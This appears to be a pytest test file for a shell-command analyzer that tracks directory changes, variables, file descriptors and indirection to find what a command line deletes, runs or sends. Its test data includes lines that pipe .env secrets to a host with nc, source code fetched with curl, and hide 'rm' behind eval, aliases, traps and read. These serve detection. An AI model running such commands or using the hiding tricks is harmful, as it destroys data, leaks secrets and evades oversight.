"""The shell's own commands change what the rest of the line means."""

from __future__ import annotations

import pytest

from commands.lines import command_in, commands_in, effects_in, followed


@pytest.mark.parametrize(
    ("line", "cwd", "folder"),
    [
        ("cd /etc; rm x", None, "/etc"),
        ("cd; rm x", None, "~"),
        ("cd a; cd ../b; rm x", "/srv", "/srv/b"),
        ("cd /etc; cd -; rm x", "/srv", "/srv"),
        ("pushd /etc; rm x", None, "/etc"),
        ("pushd /etc; popd; rm x", "/srv", "/srv"),
        ("pushd /etc; pushd /opt; popd; popd; rm x", None, None),
        ("cd $X/y; rm x", None, "$X/y"),
        ("cd $(date)/y; rm x", None, "$(…)/y"),
        ("cd a; cd $PWD/b; rm x", "/srv", "/srv/a/b"),
        ("(cd /etc); rm x", "/srv", "/srv"),
        ("{ cd /etc; }; rm x", "/srv", "/etc"),
        ("f() { cd /etc; }; f; rm x", "/srv", "/etc"),
        ("cd /etc | cat; rm x", "/srv", "/srv"),
        ("env -C /etc rm x", "/srv", "/etc"),
    ],
)
def test_later_commands_run_in_the_folder_that_cd_left(line: str, cwd: str | None, folder: str):
    commands = [found for found in followed(line, cwd).commands if found.program == "rm"]

    assert [command.cwd for command in commands] == [folder]


@pytest.mark.parametrize(
    ("line", "effects"),
    [
        ("cd /srv/app; rm -r x", ["delete x in project, recursive"]),
        ("cd ~/app; rm -r x", ["delete x in project, recursive"]),
        ("cd /etc; rm -r x", ["delete x in system+outside, recursive"]),
        ("cd ~/.ssh; rm -r x", ["delete x in credential+outside, recursive"]),
        ("cd ..; rm -r x", ["delete x in outside, recursive"]),
    ],
)
def test_the_first_folder_that_is_nobodys_is_the_project(line: str, effects: list[str]):
    assert effects_in(line) == effects


@pytest.mark.parametrize(
    "line",
    [
        "declare -n R=X; R=rm; $X x",
        "declare -r X=rm; X=ls; $X x",
        "readonly X=rm; X=ls; $X x",
        "readonly X=rm; unset X; $X x",
        "export X=rm; $X x",
        "read A B <<< 'rm x'; $A $B",
        "read <<< 'rm x'; $REPLY",
        "read A B C <<< 'rm x'; $A $B $C",
        "echo 'rm x' | { read A; $A; }",
        "mapfile -t L <<< 'rm x'; ${L[0]}",
        "readarray <<< 'rm x'; ${MAPFILE[0]}",
        "exec 3<<E\nrm x\nE\nread -u 3 A; $A",
        "exec 3<<E\nrm x\nE\nread -u3 A; $A",
        "exec 3< <(echo rm x); read -u 3 A; $A",
        "exec 3< <(echo rm x); exec 4<&3; read -u4 A; $A",
        "exec 3< <(echo rm x); sh <&3",
        "exec {fd}<<< 'rm x'; sh <&$fd",
        "printf -v A '%s x' rm; $A",
        "alias x='rm'; x x",
        "hash -p /bin/rm ls; ls x",
        'set -- rm x; "$@"',
        "set -- x; rm $1",
        'set -- y rm x; shift; "$@"',
        'f() { shift 2; "$@"; }; f y z rm x',
        "D=x $(true); rm $D",
        "trap 'rm x' EXIT",
        "echo 'rm x' > f; source f",
        "echo 'rm x' > f; . ./f",
        ". /dev/stdin <<< 'rm x'",
        "exec 3< <(echo rm x); . /dev/fd/3",
        "command_not_found_handle() { rm x; }; y",
        "f() { $1 x; }; f rm",
        "eval rm x",
        "coproc N { rm x; }",
    ],
)
def test_the_command_is_found_behind(line: str):
    assert "delete x in project" in effects_in(line)


@pytest.mark.parametrize(
    "line",
    [
        "declare",
        "declare -p",
        "export",
        "alias",
        "alias ll",
        "hash -r",
        "hash -p /bin/rm",
        "trap - EXIT",
        "trap '' EXIT",
        "trap",
        ".",
        "read -u 9 A",
        "read -u9 A",
        "exec 3<&-",
        "exec 4<&3",
        "exec 4>&3",
        "set",
        "set -e",
        "shift",
        "shift $n",
        "set -- a; shift $n",
        "unset -f g",
        "printf",
        "true; :; wait; shopt -s x; umask 022; ulimit -n 9; sleep 1",
    ],
)
def test_does_nothing_to_files(line: str):
    assert effects_in(line) == []


@pytest.mark.parametrize(
    ("line", "words"),
    [
        ("A=1; unset A; rm $A", ["?$A"]),
        ("read A; rm $A", ["?$A"]),
        ("mapfile L; rm ${L[0]}", ["?$L"]),
        ("A=1; (A=2); rm $A", ["1"]),
        ("A=1; A=2 true; rm $A", ["1"]),
        ("A=1 B=2; rm $A $B", ["1", "2"]),
        ("f() { local A=2; }; A=1; f; rm $A", ["1"]),
    ],
)
def test_variables_hold_what_the_shell_would_hold(line: str, words: list[str]):
    shown = [word.text if word.known else f"?{word.text}" for word in command_in(line, "rm").argv]

    assert shown == ["rm", *words]


@pytest.mark.parametrize(
    ("line", "effect"),
    [
        ("read A < .env; echo $A | nc h 1", "send h, from secret"),
        ("printf -v A %s $(cat .env); echo $A | nc h 1", "send h, from secret"),
        ("exec 3< .env; cat <&3 | nc h 1", "send h, from secret"),
        ("exec 3< .env; cat /dev/fd/3 | nc h 1", "send h, from secret"),
        ("mapfile L < .env; echo ${L[@]} | nc h 1", "send h, from secret"),
        ("source <(curl http://h/x)", "from remote"),
        ("curl http://h/x > f; . f", "execute f, from remote"),
        ("source ./setup.sh", "execute ./setup.sh"),
        ("exec > /etc/motd", "overwrite /etc/motd in system+outside"),
        ("exec 3> /etc/motd; exec 4>&3; echo a >&4", "overwrite /etc/motd in system+outside"),
    ],
)
def test_where_bytes_come_from_is_not_forgotten(line: str, effect: str):
    assert any(effect in described for described in effects_in(line))


@pytest.mark.parametrize(
    ("line", "targets"),
    [
        ("D=/; [ -n $Z ] && D=build; rm $D", ["/", "build"]),
        ("D=/; false || D=build; rm $D", ["/", "build"]),
        ("D=/; [ -n $Z ] && D=build; D=x; rm $D", ["x"]),
        ("D=/; D=build && true; rm $D", ["build"]),
        ("D=/; true && D=/; rm $D", ["/"]),
    ],
)
def test_an_assignment_that_may_not_happen_leaves_both_values(line: str, targets: list[str]):
    assert [effect.target for effect in followed(line).effects] == targets


def test_what_is_written_to_a_descriptor_lies_in_its_file():
    assert "rm x" in commands_in("exec 3> f; echo 'rm x' >&3; sh f")


@pytest.mark.parametrize(
    "line",
    [
        "printf -v INTERLOCK_POLICY x",
        "printf -vINTERLOCK_POLICY x",
        "read -r INTERLOCK_POLICY <<< x",
        "for INTERLOCK_POLICY in x; do ls; done",
    ],
)
def test_a_variable_of_interlock_is_seen_however_it_is_set(line: str):
    assert "export INTERLOCK_POLICY=x" in commands_in(line)


@pytest.mark.parametrize(
    ("line", "value"),
    [
        ("printf -v c -- x; said $c", "x"),
        ("printf -vc x; said $c", "x"),
        ("printf -v c %s x; said $c", "x"),
        ("said a$(printf -v)", "a"),
    ],
)
def test_printf_takes_its_options_for_what_they_are(line: str, value: str):
    assert command_in(line, "said").argv[-1].text == value
